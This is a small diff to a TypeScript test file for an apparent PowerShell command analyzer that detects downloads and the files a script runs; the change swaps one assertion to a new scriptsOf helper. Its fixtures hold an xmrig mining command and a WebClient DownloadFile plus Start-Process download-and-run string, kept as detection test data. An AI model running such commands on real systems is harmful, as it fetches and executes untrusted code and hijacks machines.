@@ -1,7 +1,7 @@
 // biome-ignore-all lint/suspicious/noTemplateCurlyInString: PowerShell texts are full of them.
 import assert from 'node:assert/strict';
 import { test } from 'node:test';
-import { linesOf, powershellRunOf } from './test-run.ts';
+import { linesOf, powershellRunOf, scriptsOf } from './test-run.ts';
 
 const payload = 'xmrig.exe -o pool.example.com:3333';
 
@@ -78,6 +78,6 @@ test('fetches and files that are run', () => {
     fetches(`(New-Object Net.WebClient).DownloadFile('${url}','b.exe'); Start-Process b.exe`),
     [[url, 'b.exe', true]],
   );
-  const files = powershellRunOf('.\\ci\\x.ps1; & ./y.ps1; C:/z.exe').filesRun.map((f) => f.path);
+  const files = scriptsOf('.\\ci\\x.ps1; & ./y.ps1; C:/z.exe', 'powershell');
   assert.deepEqual(files, ['ci/x.ps1', 'y.ps1']);
 });
